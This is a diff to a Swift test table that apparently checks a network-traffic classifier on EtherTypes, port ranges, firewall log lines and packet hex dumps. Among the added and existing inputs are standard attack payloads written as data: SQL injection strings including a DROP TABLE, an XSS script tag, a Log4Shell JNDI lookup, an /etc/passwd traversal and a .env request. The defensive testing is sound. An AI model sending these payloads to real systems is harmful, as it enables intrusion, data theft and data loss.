@@ -43,6 +43,24 @@ import Testing
     ("ethertype 0x88cc", "EtherType", "LLDP"), ("0x888e", "EtherType", "802.1X"),
     ("../../../../etc/passwd", "symptom", "no visitor sends"),
     ("GET /.env HTTP/1.1\nHost: 192.0.2.1\nUser-Agent: x", "web request", "secrets"),
+    ("1024-65535", "port", "user ports (1024-49151)"), ("ports 1024:65535/udp", "port", "temporary ports"),
+    ("1-1023", "port", "below 1024"), ("6000-6063", "port", "user ports"),
+    ("'); DROP TABLE users; --", "web request", "SQL injection"), ("1' OR '1'='1", "web request", "SQL injection"),
+    ("GET /?id=1' OR '1'='1 HTTP/1.1", "web request", "SQL injection"),
+    ("<script>alert(1)</script>", "web request", "XSS"), ("${jndi:ldap://203.0.113.7/a}", "web request", "Log4Shell"),
+    ("Gateway detected TCP no-Flag attack and dropped 3 packets.", "question", "TP-Link"),
+    (
+      "date,time,action,protocol,src-ip,dst-ip,src-port,dst-port\n2026-11-23,16:26:00,DROP,TCP,203.0.113.7,198.51.100.2,40001,22",
+      "log line", "port 22 (SSH)"
+    ),
+    (
+      "45 00 05 dc 1c 46 40 00 40 06 12 34 cb 00 71 07 c6 33 64 02 9c 41 00 16 00 00 00 01 00 00 00 00 50 02 04 00",
+      "hex dump", "port 22 (SSH)"
+    ),
+    (
+      "00000000: 4500 05dc 1c46 4000 4006 1234 cb00 7107  E..<.F@.@..4..q.\n00000010: c633 6402 9c41 0016 0000 0001 0000 0000  .3d..A..........",
+      "hex dump", "from 203.0.113.7"
+    ),
     ("99999", "question", "no port"), ("300.1.1.1", "question", "no address"),
     (
       "srcip=203.0.113.7 srcport=40001 dstip=198.51.100.2 dstport=22 action=\"deny\" proto=6", "log line",
